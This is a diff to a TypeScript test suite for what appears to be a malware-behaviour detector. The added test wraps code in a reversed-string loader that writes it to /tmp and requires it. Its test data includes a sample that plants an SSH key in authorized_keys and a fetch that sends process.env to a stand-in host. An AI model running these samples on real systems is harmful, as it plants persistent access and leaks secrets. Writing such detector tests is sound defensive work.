@@ -99,4 +99,17 @@ describe('files that are written', () => {
     const code = `fs.promises.open(os.homedir() + '/.ssh/authorized_keys', 'a').then((h) => h.appendFile(${key}));`;
     assert.deepEqual(behavioursOf(code), ['ssh-key-planted import']);
   });
+
+  it('are loaded as the code that was put together for them', () => {
+    const load = (code: string): readonly string[] =>
+      flowsOf(
+        `const text = ${JSON.stringify(code.split('').reverse().join(''))}.split('').reverse().join(''); fs.writeFileSync('/tmp/a.js', text); require('/tmp/a.js');`,
+      );
+    assert.ok(
+      load(`fetch('https://collect.invalid?' + JSON.stringify(process.env))`).includes(
+        'environment>network@collect.invalid',
+      ),
+    );
+    assert.deepEqual(load(`module.exports = 1;`), []);
+  });
 });
